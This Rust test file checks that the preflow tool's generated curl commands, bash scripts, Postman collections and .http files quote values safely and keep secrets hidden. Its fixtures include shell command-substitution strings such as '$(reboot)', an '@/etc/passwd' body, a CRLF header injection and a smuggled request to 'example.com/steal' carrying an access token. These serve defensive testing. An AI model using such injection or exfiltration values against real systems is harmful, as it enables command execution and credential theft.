//! Requests, proven by sending them: what bash and curl make of the text arrives as the model says, and the script
//! gets through a whole chain.
//!
//! Needs bash, curl and jq.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod support;

use preflow::check::{self, Report};
use preflow::diagnostic::Severity;
use preflow::import;
use preflow::input::{self, NoFiles};
use preflow::request::{self, FORMATS, Options, Part, Request, Text, requests};
use preflow::steps::StepId;
use preflow::text::Sources;
use serde_json::{Value, json};
use std::io::Write;
use std::path::Path;
use std::process::{Command, Output, Stdio};
use support::{Received, Server};

/// The requests of a dataflow document.
fn of_document(document: &str, options: &Options) -> Vec<Request> {
    of("a.dataflow.json", document, options)
}

/// The requests of a file.
fn of(name: &str, text: &str, options: &Options) -> Vec<Request> {
    let mut sources = Sources::default();
    let file = sources.add(name, text);
    let read = input::read(file, &mut sources, &NoFiles);
    requests(&read.dataflows[0], options)
}

fn at(server: &Server) -> Options {
    Options { base_url: Some(server.url.clone()), ..Options::default() }
}

fn render(format: &str, requests: &[Request]) -> String {
    (FORMATS.iter().find(|f| f.name == format).unwrap().render)(requests)
}

/// Runs a text with bash; only the given variables are in its environment, beside PATH.
fn bash(arguments: &[&str], text: &str, environment: &[(&str, &str)]) -> Output {
    let path = std::env::var_os("PATH").unwrap();
    let mut child = Command::new("bash")
        .args(arguments)
        .env_clear()
        .env("PATH", path)
        .envs(environment.iter().copied())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("these tests need bash");
    let mut stdin = child.stdin.take().unwrap();
    let text = text.to_owned();
    // bash may stop before it has read all.
    let writer = std::thread::spawn(move || drop(stdin.write_all(text.as_bytes())));
    let output = child.wait_with_output().unwrap();
    writer.join().unwrap();
    output
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// Holds what arrived against the model and against the json format.
fn assert_arrived(server: &Server, sent: &[Request]) {
    let arrived = server.received();
    assert_eq!(arrived.len(), sent.len(), "{arrived:#?}");
    let Value::Array(listed) = serde_json::from_str(&render("json", sent)).unwrap() else {
        panic!("no array")
    };
    for ((arrived, sent), listed) in arrived.iter().zip(sent).zip(&listed) {
        assert_eq!(arrived.method, sent.method);
        assert_eq!(format!("{}{}", server.url, arrived.target), sent.url());
        assert_eq!(text(&arrived.body), sent.body_text().unwrap_or_default());
        let mut headers: Vec<_> =
            sent.headers.iter().map(|(n, v)| ((*n).to_owned(), v.to_string())).collect();
        headers.sort();
        assert_eq!(arrived.own_headers(), headers);

        assert_eq!(listed["step"], sent.step.name());
        assert_eq!(listed["method"], arrived.method);
        assert_eq!(listed["url"], sent.url());
        let body = if sent.body.is_none() { Value::Null } else { arrived.json() };
        assert!(listed["body"] == body || listed["body"] == text(&arrived.body), "{}", listed["body"]);
        let listed: Vec<_> = listed["headers"].as_object().unwrap().iter().collect();
        assert_eq!(listed.len(), headers.len());
        assert!(
            listed.iter().all(|(n, v)| headers.contains(&((*n).clone(), v.as_str().unwrap().to_owned())))
        );
    }
}

/// Bodies that a careless quoting would change.
fn hard_bodies() -> Vec<String> {
    let mut bodies: Vec<String> = [
        r#"{"name": "it's a \"test\""}"#,
        r#"{"$ref": "$HOME ${HOME} $(id) `id` $$ $! \\$"}"#,
        r#"{"path": "C:\\new\\tab", "end": "\\"}"#,
        "{\n  \"a\": \"line\\nbreak\\r\\n\",\n\n\t\"b\": 1\n}",
        "{\r\n  \"a\": 1,\r\n  \"b\": \"x\"\r\n}",
        "{\"emoji\": \"😀 é \u{2028} e\u{301}\"}",
        r##"{"percent": "100% %s %d %00 \u0000", "bang": "!! !$ !x", "hash": "# ~ * ? [a] ; & | < >"}"##,
        r#"{"n": 12345678901234567890.10, "e": 1E5, "dup": 1, "dup": 2}"#,
        r#"{"open": "{TENANT_ID}", "bare": {INTERVAL}}"#,
        "@/etc/passwd",
        "'",
        "'''\\'''",
        "-d",
        " {\"a\": 1} \n\n",
        "\n",
    ]
    .map(str::to_owned)
    .into();
    // Longer than an argument may be.
    bodies.push(format!(r#"{{"long": "it's {}"}}"#, "%\\\\é".repeat(60_000)));
    bodies
}

fn with_body(server: &Server, body: &str) -> Request {
    let mut request = of_document(r#"{"steps": {"dataset": {}}}"#, &at(server)).remove(0);
    request.body = Some(Text { parts: vec![Part::Literal(body.to_owned())] });
    request
}

#[test]
fn curl_sends_every_body_byte_for_byte() {
    let server = Server::start(|_| (201, "{}".to_owned()));
    let sent: Vec<_> = hard_bodies().iter().map(|body| with_body(&server, body)).collect();
    let output = bash(&[], &render("curl", &sent), &[("HOME", "/nonexistent")]);
    assert!(output.status.success(), "{output:?}");
    assert_arrived(&server, &sent);
}

#[test]
fn curl_sends_the_bodies_of_a_document() {
    let server = Server::start(|_| (201, "{}".to_owned()));
    let document = r#"{
        "variables": {"P": "x", "TEAM": "R&D \"north\" it's \\ $x", "SANDBOX_NAME": "prod", "API_KEY": ""},
        "flowSpec": "Flow of \"{KIND}\" / é",
        "steps": {
            "sourceConnection": {"name": "{TEAM}: {OTHER}", "data": {"format": "json"}},
            "mappingSet": {"mappings": [{"source": "${TEAM} <P>", "destination": "_{P}.a"}]},
            "flow": {"name": "'$(reboot)'"}
        }
    }"#;
    let sent = of_document(document, &at(&server));
    let steps: Vec<_> = sent.iter().map(|r| r.step.name()).collect();
    assert_eq!(steps, ["sourceConnection", "mappingSet", "flowSpec", "flow", "getFlow"]);
    let output = bash(&[], &render("curl", &sent), &[]);
    assert!(output.status.success(), "{output:?}");
    assert_arrived(&server, &sent);

    let arrived = server.received();
    assert_eq!(arrived[0].json()["name"], "R&D \"north\" it's \\ $x: {OTHER}");
    let mapping = &arrived[1].json()["mappings"][0];
    assert_eq!(mapping["source"], "${TEAM} <P>", "a source field and a text are no placeholders");
    assert_eq!(mapping["destination"], "_x.a");
    let flow_specs = "/data/foundation/flowservice/flowSpecs?property=name==";
    assert_eq!(arrived[2].target, format!("{flow_specs}%22Flow%20of%20%22{{KIND}}%22%20%2F%20%C3%A9%22"));
    assert_eq!(arrived[4].target, "/data/foundation/flowservice/flows/{FLOW_ID}");
    let headers: Vec<_> = arrived[3].headers.iter().map(|(n, v)| format!("{n}: {v}")).collect();
    for header in ["Authorization: Bearer {ACCESS_TOKEN}", "x-api-key: ", "x-sandbox-name: prod"] {
        assert!(headers.iter().any(|h| h == header), "{headers:?}");
    }
}

#[test]
fn headers_take_no_second_line() {
    let set = [("ORG_ID".to_owned(), "a\r\nx-other: b".to_owned())].into();
    let sent = of_document(r#"{"steps": {"flow": {}}}"#, &Options { set, ..Options::default() });
    assert_eq!(sent[0].headers[2].1.to_string(), "ax-other: b");
}

/// A document with every step a dataflow can have.
const WHOLE: &str = r#"{
    "flowSpec": "CRMToAEP",
    "steps": {
        "baseConnection": {"name": "it's", "auth": {"params": {"password": "{SALESFORCE_PASSWORD}"}}},
        "adHocClass": {"title": "c"},
        "adHocSchema": {"allOf": [{"$ref": "{AD_HOC_CLASS_ID}"}]},
        "sourceConnection": {"baseConnectionId": "{BASE_CONNECTION_ID}", "schema": "{AD_HOC_SCHEMA_ID}"},
        "targetSchema": {"title": "{TENANT_ID} $HOME"},
        "dataset": {"schemaRef": {"id": "{SCHEMA_ID}"}},
        "datasetBaseConnection": {"name": "d"},
        "targetConnection": {
            "baseConnectionId": "{DATASET_BASE_CONNECTION_ID}",
            "data": {"schema": {"id": "{SCHEMA_ID}"}},
            "params": {"dataSetId": "{DATASET_ID}"}
        },
        "mappingSet": {"xdmSchema": "{SCHEMA_ID}", "mappings": [{"source": "${NAME}"}]},
        "flow": {
            "flowSpec": {"id": "{FLOW_SPEC_ID}"},
            "sourceConnectionIds": ["{SOURCE_CONNECTION_ID}"],
            "targetConnectionIds": ["{TARGET_CONNECTION_ID}"],
            "transformations": [{"params": {"mappingId": "{MAPPING_ID}", "mappingVersion": "{MAPPING_VERSION}"}}],
            "etags": ["{SOURCE_CONNECTION_ETAG}"],
            "scheduleParams": {}
        }
    }
}"#;

/// What no value may break: quotes, shell and replacement characters, and what looks like a placeholder.
const HARD: &str = "\"'\\ $HOME `id` $(id) & \\1 % {SCHEMA_ID} é😀 *";

const TAG: &str = "\"8e00b2f5-0000-0200-0000-63ef57db0000\"";

/// Plays Platform: an id, with hard characters, and an etag for each create.
fn platform(request: &Received) -> (u16, String) {
    let path = request.target.split('?').next().unwrap_or_default();
    let (_, kind) = path.rsplit_once('/').unwrap();
    match (request.method.as_str(), kind) {
        ("POST", "dataSets") => (201, json!(["@/dataSets/5ed5639d798a22191b6987b2"]).to_string()),
        ("POST", "classes" | "schemas") => (201, json!({"$id": format!("{path} {HARD}")}).to_string()),
        ("POST", "mappingSets") => (200, json!({"id": "4b7188aa", "version": 0}).to_string()),
        ("GET", "flowSpecs") => (200, json!({"items": [{"id": "14518937"}]}).to_string()),
        ("GET", _) if path.contains("/flowSpecs/") => (200, json!({"items": [{"id": kind}]}).to_string()),
        ("GET", _) if path.contains("/flows/") => {
            let options = json!({"inletUrl": "https://dcs.adobedc.net/collection/e71b"});
            (200, json!({"items": [{"id": kind, "etag": TAG, "options": options}]}).to_string())
        }
        ("POST", _) => (201, json!({"id": format!("{kind} {HARD}"), "etag": TAG}).to_string()),
        _ => (404, String::new()),
    }
}

const TOKEN: &str = "t0k'en\"$(id)\\ %s";

fn environment(url: &str) -> Vec<(&'static str, &str)> {
    vec![
        ("ACCESS_TOKEN", TOKEN),
        ("API_KEY", "k3y"),
        ("ORG_ID", "7@AdobeOrg"),
        ("SANDBOX_NAME", "prod"),
        ("SALESFORCE_PASSWORD", "pa55 \"'\\ \t&"),
        ("TENANT_ID", "acme"),
        ("PLATFORM_URL", url),
    ]
}

#[test]
fn the_script_completes_the_chain() {
    let server = Server::start(platform);
    let sent = of_document(WHOLE, &Options::default());
    let output = bash(&[], &render("script", &sent), &environment(&server.url));
    assert!(output.status.success(), "{}", text(&output.stderr));
    let arrived = server.received();
    assert_eq!(arrived.len(), 11, "{}", text(&output.stderr));
    for (arrived, sent) in arrived.iter().zip(&sent) {
        assert_eq!(arrived.method, sent.method);
        assert_eq!(arrived.target, sent.path.to_string());
        let own = arrived.own_headers();
        assert!(own.contains(&("Authorization".to_owned(), format!("Bearer {TOKEN}"))), "{own:?}");
        assert!(own.contains(&("x-gw-ims-org-id".to_owned(), "7@AdobeOrg".to_owned())));
        let content_type = ("Content-Type".to_owned(), "application/json".to_owned());
        assert_eq!(own.contains(&content_type), sent.body.is_some());
        assert_eq!(own.len(), sent.headers.len());
    }
    let body = |step: StepId| arrived[sent.iter().position(|r| r.step == step).unwrap()].json();
    let id = |kind: &str| json!(format!("{kind} {HARD}"));
    let registered = |kind: &str| json!(format!("/data/foundation/schemaregistry/tenant/{kind} {HARD}"));
    assert_eq!(body(StepId::BaseConnection)["auth"]["params"]["password"], "pa55 \"'\\ \t&");
    assert_eq!(body(StepId::AdHocSchema)["allOf"][0]["$ref"], registered("classes"));
    assert_eq!(body(StepId::SourceConnection)["baseConnectionId"], id("connections"));
    assert_eq!(body(StepId::SourceConnection)["schema"], registered("schemas"));
    assert_eq!(body(StepId::TargetSchema)["title"], "acme $HOME");
    assert_eq!(body(StepId::Dataset)["schemaRef"]["id"], registered("schemas"));
    assert_eq!(body(StepId::TargetConnection)["params"]["dataSetId"], "5ed5639d798a22191b6987b2");
    assert_eq!(body(StepId::MappingSet)["mappings"][0]["source"], "${NAME}");
    let flow = body(StepId::Flow);
    assert_eq!(flow["flowSpec"]["id"], "14518937");
    assert_eq!(flow["sourceConnectionIds"], json!([id("sourceConnections")]));
    assert_eq!(flow["targetConnectionIds"], json!([id("targetConnections")]));
    assert_eq!(flow["transformations"][0]["params"], json!({"mappingId": "4b7188aa", "mappingVersion": "0"}));
    assert_eq!(flow["etags"], json!([TAG]));

    // What it prints can be read back by a shell.
    let printed = text(&output.stdout);
    let shown =
        format!("{printed}printf '%s|' \"$FLOW_ID\" \"$FLOW_ETAG\" \"$DATASET_ID\" \"$MAPPING_VERSION\"");
    let read_back = text(&bash(&[], &shown, &[]).stdout);
    assert_eq!(read_back, format!("flows {HARD}|{TAG}|5ed5639d798a22191b6987b2|0|"), "{printed}");
}

#[test]
fn the_script_sends_every_body_byte_for_byte() {
    let server = Server::start(platform);
    let sent: Vec<_> = hard_bodies().iter().map(|body| with_body(&server, body)).collect();
    let output = bash(&[], &render("script", &sent), &environment(&server.url));
    assert!(output.status.success(), "{}", text(&output.stderr));
    let bodies: Vec<_> = server.received().iter().map(|r| text(&r.body)).collect();
    assert_eq!(bodies, hard_bodies());
}

#[test]
fn every_example_completes() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples");
    let mut names = Vec::new();
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        let name = path.file_name().unwrap().to_str().unwrap().to_owned();
        if !name.ends_with(".dataflow.json") {
            continue;
        }
        let server = Server::start(platform);
        let sent = of_document(&std::fs::read_to_string(&path).unwrap(), &Options::default());
        let mut environment: Vec<_> = request::needed(&sent).into_iter().map(|n| (n, "x")).collect();
        environment.push(("PLATFORM_URL", &server.url));
        let output = bash(&[], &render("script", &sent), &environment);
        assert!(output.status.success(), "{name}: {}", text(&output.stderr));
        let arrived = server.received();
        assert_eq!(arrived.len(), sent.len(), "{name}");
        for arrived in arrived {
            assert!(arrived.body.is_empty() || arrived.json().is_object(), "{name}: {arrived:?}");
            let open = text(&arrived.body).replace("% {SCHEMA_ID}", "");
            assert!(!open.contains("_ID}"), "{name}: {arrived:?}");
        }
        names.push(name);
    }
    assert!(names.len() > 3, "{names:?}");
}

#[test]
fn a_failing_step_stops_the_script_and_is_named() {
    let server = Server::start(|request| match request.target.contains("dataSets") {
        true => (400, "{\"title\": \"Bad schemaRef\"}".to_owned()),
        false => platform(request),
    });
    let output =
        bash(&[], &render("script", &of_document(WHOLE, &Options::default())), &environment(&server.url));
    assert_eq!(output.status.code(), Some(1));
    let told = text(&output.stderr);
    for what in ["dataset failed", "POST", "/catalog/dataSets?requestDataSource=true", "400", "Bad schemaRef"]
    {
        assert!(told.contains(what), "{what}: {told}");
    }
    let last = server.received().pop().unwrap();
    assert!(last.target.contains("dataSets"), "nothing is sent after it: {}", last.target);
    let printed = text(&output.stdout);
    assert!(printed.contains("SCHEMA_ID=") && !printed.contains("DATASET_ID="), "{printed}");
}

#[test]
fn an_answer_without_the_id_stops_the_script() {
    for answer in ["{}", "<html>hello</html>", "", "[]", "{\"id\": null}"] {
        let server = Server::start(move |_| (201, answer.to_owned()));
        let output =
            bash(&[], &render("script", &of_document(WHOLE, &Options::default())), &environment(&server.url));
        assert_eq!(output.status.code(), Some(1), "{answer}");
        let told = text(&output.stderr);
        assert!(
            told.contains("base connection failed: the answer has no .id") && told.contains(answer),
            "{told}"
        );
        assert_eq!(server.received().len(), 1, "{answer}");
    }
}

#[test]
fn no_answer_stops_the_script() {
    let listener = std::net::TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let hangs_up = std::thread::spawn(move || drop(listener.accept()));
    let script = render("script", &of_document(WHOLE, &Options::default()));
    let output = bash(&[], &script, &environment(&url));
    hangs_up.join().unwrap();
    assert_eq!(output.status.code(), Some(1));
    let told = text(&output.stderr);
    assert!(told.contains("base connection failed: no answer"), "{told}");
}

#[test]
fn missing_variables_are_told_before_anything_is_sent() {
    let server = Server::start(platform);
    let script = render("script", &of_document(WHOLE, &Options::default()));
    let mut environment = environment(&server.url);
    environment.retain(|(name, _)| !["API_KEY", "TENANT_ID"].contains(name));
    let output = bash(&[], &script, &environment);
    assert_eq!(output.status.code(), Some(2));
    assert_eq!(text(&output.stderr), "Set these environment variables first: API_KEY TENANT_ID\n");
    assert_eq!(server.received().len(), 0);
}

#[test]
fn missing_tools_are_told() {
    let script = render("script", &of_document(WHOLE, &Options::default()));
    let output = bash(&["-c", &format!("PATH=/nonexistent\n{script}")], "", &[("ACCESS_TOKEN", "x")]);
    assert_eq!(output.status.code(), Some(2));
    assert_eq!(text(&output.stderr), "These tools are missing: curl jq\n");
}

#[test]
fn one_step_alone_takes_the_ids_of_others_from_the_environment() {
    let server = Server::start(platform);
    let options = Options { step: Some(StepId::Dataset), ..Options::default() };
    let sent = of_document(WHOLE, &options);
    assert!(request::needed(&sent).contains(&"SCHEMA_ID"));
    let mut environment = environment(&server.url);
    environment.push(("SCHEMA_ID", HARD));
    let output = bash(&[], &render("script", &sent), &environment);
    assert!(output.status.success(), "{}", text(&output.stderr));
    assert_eq!(server.received()[0].json()["schemaRef"]["id"], HARD);
}

#[test]
fn secrets_are_in_no_text_trace_or_command_line() {
    let server = Server::start(platform);
    let (token, password) = ("SeCrEtToKeN", "SeCrEtPaSsWoRd");
    let set = [("ACCESS_TOKEN", token), ("SALESFORCE_PASSWORD", password), ("TENANT_ID", "acme")]
        .map(|(k, v)| (k.to_owned(), v.to_owned()))
        .into();
    let script = render("script", &of_document(WHOLE, &Options { set, ..Options::default() }));
    assert!(!script.contains("SeCrEt"), "{script}");

    // A curl that writes down its arguments and goes on as curl.
    let folder = tempfile::tempdir().unwrap();
    let log = folder.path().join("log");
    let spy = folder.path().join("curl");
    std::fs::write(
        &spy,
        "#!/bin/bash\nprintf '%s\\n' \"$@\" >>\"$SPY_LOG\"\nPATH=${PATH#*:} exec curl \"$@\"\n",
    )
    .unwrap();
    let made = Command::new("chmod").arg("+x").arg(&spy).status().unwrap();
    assert!(made.success());
    let path = format!("{}:{}", folder.path().display(), std::env::var("PATH").unwrap());
    let mut environment = environment(&server.url);
    environment.retain(|(name, _)| !["ACCESS_TOKEN", "SALESFORCE_PASSWORD"].contains(name));
    environment.extend([("ACCESS_TOKEN", token), ("SALESFORCE_PASSWORD", password), ("PATH", &path)]);
    environment.push(("SPY_LOG", log.to_str().unwrap()));
    let output = bash(&["-x"], &script, &environment);
    assert!(output.status.success(), "{}", text(&output.stderr));
    assert_eq!(server.received().len(), 11);
    assert_eq!(server.received()[0].json()["auth"]["params"]["password"], password);
    let arguments = std::fs::read_to_string(&log).unwrap();
    assert!(arguments.contains("/data/foundation/flowservice/flows"), "{arguments}");
    for shown in [arguments, text(&output.stdout), text(&output.stderr)] {
        assert!(!shown.contains("SeCrEt"), "{shown}");
    }
}

#[test]
fn the_system_gives_no_value_away() {
    let server = Server::start(platform);
    let document = r#"{"steps": {"baseConnection": {"auth": {"params": {"username": "{USERNAME}", "x": "{{name}} {{url}} {{body}}"}}}}}"#;
    let script = render("script", &of_document(document, &Options::default()));
    let mut environment = environment(&server.url);
    environment.push(("USERNAME", "login"));
    environment.extend([("name", "n"), ("url", "u"), ("body", "b")]);
    let output = bash(&[], &script, &environment);
    assert!(text(&output.stderr).contains("PREFLOW_USERNAME"), "{output:?}");
    environment.push(("PREFLOW_USERNAME", "ann"));
    let output = bash(&[], &script, &environment);
    assert!(output.status.success(), "{}", text(&output.stderr));
    assert_eq!(server.received()[0].json()["auth"]["params"], json!({"username": "ann", "x": "n u b"}));
}

#[test]
fn look_ups_follow_from_the_dataflow() {
    let look_ups = |document: &str| {
        let sent = of_document(document, &Options::default());
        let reads = sent.iter().filter(|r| r.method == "GET");
        reads.map(|r| r.path.to_string().replace("/data/foundation/flowservice", "")).collect::<Vec<_>>()
    };
    let flow_spec = |value: &str| look_ups(&format!(r#"{{"flowSpec": {value}, "steps": {{}}}}"#));
    assert_eq!(flow_spec(r#""CRMToAEP""#), ["/flowSpecs?property=name==%22CRMToAEP%22"]);
    let id = "14518937-270c-4525-bdec-c2ba7cce3860";
    assert_eq!(flow_spec(&format!("\"{id}\"")), [format!("/flowSpecs/{id}")]);
    assert_eq!(
        flow_spec(&format!(r#"{{"items": [{{"id": "{id}", "name": "x"}}]}}"#)),
        [format!("/flowSpecs/{id}")]
    );
    assert_eq!(
        flow_spec(r#"{"name": "x", "transformationSpecs": []}"#),
        ["/flowSpecs?property=name==%22x%22"]
    );
    assert_eq!(flow_spec(r#""{FLOW_SPEC}""#), ["/flowSpecs?property=name==%22{FLOW_SPEC}%22"]);
    assert_eq!(flow_spec("{}"), [] as [&str; 0]);
    assert_eq!(flow_spec(r#""missing.json""#), [] as [&str; 0]);

    let inlet = |base: &str, source: &str, flow: &str| {
        look_ups(&format!(r#"{{"steps": {{{base} "sourceConnection": {{{source}}}, "flow": {{{flow}}}}}}}"#))
    };
    let spec = |id: &str| format!(r#""connectionSpec": {{"id": "{id}"}}"#);
    let (webhook, http_api) =
        (spec("073127a3-26e3-496c-9d94-9f48fb93fba8"), spec("bc7b00d6-623a-4dfc-9fdb-f1240aeadaeb"));
    let (landing_zone, unknown) = (spec("26f526f2-58f4-4712-961d-e41bf1ccc0e8"), spec("{SPEC_ID}"));
    let (in_flow, in_base) = (["/flows/{FLOW_ID}"], ["/connections/{BASE_CONNECTION_ID}"]);
    let none: [&str; 0] = [];
    assert_eq!(inlet("", &webhook, ""), in_flow);
    assert_eq!(inlet("", &unknown, ""), in_flow);
    assert_eq!(inlet("", &unknown, r#""scheduleParams": {}"#), none);
    assert_eq!(inlet("", &landing_zone, ""), none);
    assert_eq!(inlet(r#""baseConnection": {},"#, &unknown, ""), none);
    assert_eq!(inlet("", &unknown, &format!(r#""flowSpec": {{"id": "{id}"}}"#)), none);
    assert_eq!(inlet(&format!(r#""baseConnection": {{{http_api}}},"#), &http_api, ""), in_base);
    let with_base = format!(r#"{http_api}, "baseConnectionId": "a1b2""#);
    assert_eq!(inlet("", &with_base, ""), ["/connections/a1b2"]);
}

#[test]
fn comments_are_not_sent() {
    let document = r#"{"steps": {"flow": { // "{TENANT_ID}"
        "name": "a // {TENANT_ID}", /* " */ "b": [1, 2,],
    }}}"#;
    let set = [("TENANT_ID".to_owned(), "\"".to_owned())].into();
    let sent = of_document(document, &Options { set, ..Options::default() });
    let body: Value = serde_json::from_str(&sent[0].body_text().unwrap()).unwrap();
    assert_eq!(body, json!({"name": "a // \"", "b": [1, 2]}));
}

/// A runbook, with the steps out of order, a query of its own and a shell's ways to quote.
const RUNBOOK: &str = r#"# Runbook

```shell
curl -X POST \
  'https://platform.adobe.io/data/foundation/flowservice/flows?mode=draft' \
  -H 'x-api-key: somebody' \
  -d '{
    "name": "it'\''s \"done\"",
    "sourceConnectionIds": ["1111aaaa-0000-4000-8000-00000000000a"]
  }'
```

```shell
curl https://platform.adobe.io/data/foundation/flowservice/sourceConnections \
  --json "{\"name\": \"a\\\\b \$x\", \"connectionSpec\": {\"id\": \"{SPEC_ID}\"}}"
```

```shell
curl -X GET 'https://platform.adobe.io/data/foundation/flowservice/flowSpecs?property=name=="Mine"'
```

```shell
curl -X GET 'https://platform.adobe.io/data/foundation/flowservice/runs?property=flowId==1'
```
"#;

#[test]
fn the_requests_of_a_runbook_are_written_from_its_bodies() {
    let server = Server::start(|_| (201, "{}".to_owned()));
    let sent = of("runbook.md", RUNBOOK, &at(&server));
    let output = bash(&[], &render("curl", &sent), &[]);
    assert!(output.status.success(), "{output:?}");
    assert_arrived(&server, &sent);
    let arrived: Vec<_> = server
        .received()
        .iter()
        .map(|r| (r.target.replace("/data/foundation/flowservice", ""), text(&r.body)))
        .collect();
    let expected = [
        ("/sourceConnections", r#"{"name": "a\\b $x", "connectionSpec": {"id": "{SPEC_ID}"}}"#),
        ("/flowSpecs?property=name==%22Mine%22", ""),
        (
            "/flows?mode=draft",
            "{\n    \"name\": \"it's \\\"done\\\"\",\n    \"sourceConnectionIds\": \
             [\"1111aaaa-0000-4000-8000-00000000000a\"]\n  }",
        ),
        ("/flows/{FLOW_ID}", ""),
    ];
    assert_eq!(arrived, expected.map(|(target, body)| (target.to_owned(), body.to_owned())));
}

/// The examples and the cases, by name.
fn documents() -> Vec<(String, String)> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let mut found = Vec::new();
    for folder in ["examples", "tests/cases/requests"] {
        for entry in std::fs::read_dir(root.join(folder)).unwrap() {
            let path = entry.unwrap().path();
            let path = if path.is_dir() { path.join("a.dataflow.json") } else { path };
            let name = path.to_string_lossy().into_owned();
            if name.ends_with(".dataflow.json") {
                found.push((name, std::fs::read_to_string(&path).unwrap()));
            }
        }
    }
    assert!(found.len() > 6);
    found
}

#[test]
fn a_postman_collection_is_read_as_what_it_was_made_of() {
    // Bodies of a collection write a placeholder in double braces.
    let plain = |requests: &[Request]| render("json", requests).replace("{{", "{").replace("}}", "}");
    for (name, document) in documents() {
        let sent = of_document(&document, &Options::default());
        let collection = render("postman", &sent);
        let report = |name: &str, text: &str| {
            check::check(name, text.as_bytes(), &NoFiles, &check::Options::default())
        };
        let codes = |report: &Report| report.diagnostics.iter().map(|d| d.code).collect::<Vec<_>>();
        let read = report("collection.json", &collection);
        // What the files say that a document names is not told of its requests.
        let mut known = codes(&report("a.dataflow.json", &document));
        known.retain(|code| *code != "missing-file");
        assert_eq!(codes(&read), known, "{name}: {:#?}", read.diagnostics);
        assert_eq!(plain(&requests(&read.dataflows[0], &Options::default())), plain(&sent), "{name}");

        let imported = import::import("collection.json", collection.as_bytes(), &NoFiles);
        // That an id stays, or that a request follows from others, is worth a word and no more.
        assert!(imported.diagnostics.iter().all(|d| d.severity == Severity::Info), "{name}: {imported:#?}");
        let again = of_document(&imported.document.unwrap(), &Options::default());
        assert_eq!(plain(&again), plain(&sent), "{name}");
    }
}

#[test]
fn a_collection_has_secrets_only_where_they_are_given() {
    let sent = of_document(WHOLE, &Options::default());
    let open: Value = serde_json::from_str(&render("postman", &sent)).unwrap();
    let variables = open["variable"].as_array().unwrap();
    assert!(variables.iter().any(|v| v["key"] == "ACCESS_TOKEN"));
    assert!(variables.iter().all(|v| v["value"] == ""), "{variables:#?}");
    let set = [("ACCESS_TOKEN", "t0k3n"), ("SALESFORCE_PASSWORD", "a \"b\"")]
        .map(|(k, v)| (k.to_owned(), v.to_owned()));
    let sent = of_document(WHOLE, &Options { set: set.into(), ..Options::default() });
    let given: Value = serde_json::from_str(&render("postman", &sent)).unwrap();
    assert_eq!(given["variable"][0], json!({"key": "ACCESS_TOKEN", "value": "t0k3n"}));
    // Postman fills a variable in as it is, so what JSON writes otherwise stands in place.
    let body = given["item"][0]["request"]["body"]["raw"].as_str().unwrap();
    assert!(body.contains(r#""password": "a \"b\"""#), "{body}");
}

#[test]
fn a_body_adds_no_request_to_an_http_file() {
    let hostile = "{}\n###\nPOST https://example.com/steal\nx: {{ACCESS_TOKEN}}";
    let mut sent = of_document(r#"{"steps": {"dataset": {}}}"#, &Options::default());
    sent[0].body = Some(Text { parts: vec![Part::Literal(hostile.to_owned())] });
    let written = render("http", &sent);
    assert!(!written.contains("example.com") && written.contains("The body is left out"), "{written}");
    for line in ["# a", " // a", "< ./secret", "> {%", "@a = b", "? a", "HTTP/1.1 200"] {
        sent[0].body = Some(Text { parts: vec![Part::Literal(format!("{{}}\n{line}"))] });
        assert!(!render("http", &sent).contains(line), "{line}");
    }
}

/// Each folder of `tests/cases/requests` holds a dataflow and, in `files`, all that each format makes of it.
/// `UPDATE=1 cargo test --test requests` rewrites that.
#[test]
fn every_case_is_written_as_expected() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/cases/requests");
    let is_update = std::env::var_os("UPDATE").is_some();
    let mut cases: Vec<_> = std::fs::read_dir(root).unwrap().map(|e| e.unwrap().path()).collect();
    cases.sort();
    assert!(!cases.is_empty());
    for case in cases {
        let input = case.join("a.dataflow.json");
        let sent = of_document(&std::fs::read_to_string(&input).unwrap(), &Options::default());
        for format in FORMATS {
            let written = (format.render)(&sent);
            let path = case.join("files").join(format!("{}.txt", format.name));
            if is_update {
                std::fs::create_dir_all(path.parent().unwrap()).unwrap();
                std::fs::write(&path, &written).unwrap();
            }
            let expected = std::fs::read_to_string(&path).unwrap_or_default();
            assert!(written == expected, "{} is now (UPDATE=1 accepts it):\n{written}", path.display());
        }
    }
}
